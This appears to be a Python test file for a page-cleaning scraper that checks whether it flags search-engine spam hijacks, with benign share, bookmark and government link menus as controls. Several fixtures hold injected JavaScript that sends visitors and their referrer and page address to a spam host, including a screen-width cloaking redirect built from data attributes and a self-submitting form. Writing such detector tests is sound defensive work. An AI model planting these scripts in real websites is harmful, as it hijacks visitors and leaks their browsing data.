"""Scripts judged by what they do to which visitor, whatever they test first (v7 misses, now dev):
a function that hands a search visitor on to another site with the search it came from, called
from a click on one small link; a redirect gated on the screen's width with its address kept in
data-* attributes; and a hidden option list of another site's pages that nothing can open or
follow. The code is written afresh in each miss's form, not copied from the spent pages."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.conftest import everything
from tests.clean.test_gestures import ARTICLE
from tests.clean.test_structural import URL, page

SPAM_HOST = "vq7-tiancheng.top"


def cleaned(body: str = ARTICLE, head: str = ""):
    return clean_page(page(body=body, head=head), url=URL)


def redirects(a) -> list[str]:
    return [f.where for f in a.findings if f.kind == "js_redirect" and SPAM_HOST in f.evidence]


def test_a_click_on_one_small_link_hands_the_search_visitor_on_with_its_referrer():
    body = ARTICLE + ("<script>function goKw(){var r=encodeURIComponent(document.referrer);"
                      f"window.location.href='https://'+'{SPAM_HOST}'+'/go.php?from='+r+'&page='+encodeURIComponent(location.href)}}"
                      '</script><a href="javascript:void(0)" onclick="goKw();return false"><img src="/s.gif" width="1" height="1"></a>')
    a = cleaned(body)
    assert a.hijacked and redirects(a) == ["script (run, on click): a search visitor handed on with its referrer"]


def test_share_buttons_and_back_links_that_call_the_pages_functions_stay_unflagged():
    # a share button sends the page's own address; a "back" link returns to where the visitor came from
    body = ARTICLE + ("<script>function shareTo(){window.open('https://service.weibo.com/share/share.php?url='"
                      "+encodeURIComponent(location.href)+'&title='+encodeURIComponent(document.title))}"
                      "function goBack(){if(document.referrer){location.href=document.referrer}else{history.back()}}</script>"
                      '<a href="javascript:shareTo()">分享到微博</a> <a href="#" onclick="goBack()">返回</a>')
    a = cleaned(body)
    assert not a.hijacked and not [f for f in a.findings if f.kind == "js_redirect"]


def test_a_narrow_screen_redirect_whose_address_is_joined_from_data_attributes():
    body = ARTICLE + (f'<span id="cfg9" data-p0="https:" data-p1="" data-p2="{SPAM_HOST}" data-p3="wap"></span>'
                      '<script>if(window.matchMedia&&matchMedia("(max-width: 768px)").matches){'
                      'var d=document.getElementById("cfg9").dataset;location.href=[d.p0,d.p1,d.p2,d.p3].join("/")}</script>')
    a = cleaned(body)
    assert a.hijacked and redirects(a)


def test_a_narrow_screen_script_that_moves_the_menu_or_sends_phones_to_the_sites_own_mobile_pages_is_not_cloaking():
    body = ARTICLE + ('<div id="nav" data-mode="full"></div><script>var n=document.getElementById("nav");'
                      'if(matchMedia("(max-width: 768px)").matches){n.dataset.mode="compact";n.innerHTML="<a href=/m/>菜单</a>"}'
                      'if(window.innerWidth<600){location.href="https://m.qingshan.gov.cn/info/2024/0316/2.htm"}</script>')
    a = cleaned(body)
    assert not a.hijacked and not [f for f in a.findings if f.kind in ("js_redirect", "js_cloak")]


def test_a_hidden_option_list_of_another_sites_pages_that_nothing_follows_is_a_farm():
    body = ARTICLE + (f'<select hidden name="xlinks"><option value="https://{SPAM_HOST}/a">天成汇·在线(中国)官方站</option>'
                      f'<option value="https://{SPAM_HOST}/b">天成官方一</option><option value="https://{SPAM_HOST}/c">天成官方二</option>'
                      "</select>")
    a = cleaned(body)
    assert a.hijacked and "天成汇" not in everything(a)


def test_a_hidden_jump_menu_of_partner_sites_waits_for_its_handler_and_stays():
    # the 友情链接 select of a gov site, hidden until its box opens: it navigates when a site is picked
    body = ARTICLE + ('<select style="display:none" onchange="if(this.value)window.open(this.value)">'
                      '<option value="">友情链接</option><option value="https://www.gov.cn/">中国政府网</option>'
                      '<option value="https://www.hubei.gov.cn/">湖北省人民政府</option>'
                      '<option value="https://www.wuhan.gov.cn/">武汉市人民政府</option></select>')
    a = cleaned(body)
    assert not a.hijacked and not [f for f in a.findings if f.kind == "hidden_links"]


def test_an_onclick_that_sends_the_referrer_to_another_site_by_itself():
    body = ARTICLE + (f"<a href=\"#\" onclick=\"location.href='//{SPAM_HOST}/in?kw='+escape(document.referrer)\">"
                      "查看详情</a>")
    a = cleaned(body)
    assert a.hijacked and redirects(a)


def test_the_referrer_handed_on_in_base64_through_a_window_or_in_a_form_the_code_submits():
    opened = ARTICLE + (f"<script>function pv(){{window.open('https://{SPAM_HOST}/r?k='+btoa(document.referrer))}}</script>"
                        '<img src="/banner.jpg" onclick="pv()">')
    submitted = ARTICLE + (f"<script>var f=document.createElement('form');f.action='https://{SPAM_HOST}/in';"
                           "var i=document.createElement('input');i.name='from';i.value=document.referrer;"
                           "f.appendChild(i);document.body.appendChild(f);f.submit()</script>")
    for body in (opened, submitted):
        a = cleaned(body)
        assert a.hijacked and redirects(a)


def test_bookmark_and_survey_buttons_that_send_the_page_and_its_referrer_as_via_stay_unflagged():
    # (v33tw-012/013: a bookmark site's button opens it with the page's title, address and the
    # referrer as "via"; a dev-dragnet survey opens with the page's address and the referrer)
    bookmark = ARTICLE + ("<a href=\"javascript:via='';if(document.referrer)via=document.referrer;"
                          "void(open('http://bookmark.example.tw/add?t='+encodeURIComponent(document.title)"
                          "+'&u='+encodeURIComponent(location.href)+'&via='+encodeURIComponent(via)))\">收藏</a>")
    survey = ARTICLE + ("<script>function later(){return window.open('http://survey.example.com/s.php?sid=5&referrer='"
                        "+escape(document.referrer)+'&fullurl='+escape(window.location.href),'surveywin','width=500')}"
                        '</script><a href="#" onclick="later()">以后再说</a>')
    for body in (bookmark, survey):
        a = cleaned(body)
        assert not a.hijacked and not [f for f in a.findings if f.kind in ("js_redirect", "js_cloak", "spam_title")]


def test_a_window_with_the_pages_address_that_a_control_opens_for_search_visitors_only_is_still_a_hand_on():
    body = ARTICLE + (f"<script>function pv(){{if(/baidu|sogou|so\\.com/.test(document.referrer))"
                      f"window.open('https://{SPAM_HOST}/r?ref='+escape(document.referrer)+'&u='+escape(location.href))}}"
                      "</script><a href=\"#\" onclick=\"pv()\">更多</a>")
    a = cleaned(body)
    assert a.hijacked and redirects(a)


def test_a_click_anywhere_that_takes_a_search_visitor_away_with_the_pages_address_is_still_caught():
    body = ARTICLE + ("<script>document.addEventListener('click',function(){var r=document.referrer;"
                      f"if(r.indexOf('baidu')>-1)window.open('https://{SPAM_HOST}/in?r='+escape(r)+'&u='+escape(location.href))"
                      "})</script>")
    a = cleaned(body)
    assert a.hijacked and redirects(a)
